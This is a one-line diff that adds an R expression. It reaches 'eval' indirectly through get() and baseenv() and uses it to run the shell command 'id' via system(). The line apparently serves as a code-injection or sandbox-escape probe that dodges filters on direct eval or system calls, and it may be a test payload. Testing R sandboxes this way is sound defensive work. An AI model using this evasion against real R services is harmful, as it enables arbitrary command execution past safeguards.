@@ -1,0 +1,1 @@
+get("eval", envir = baseenv())(parse(text = "system('id')"))
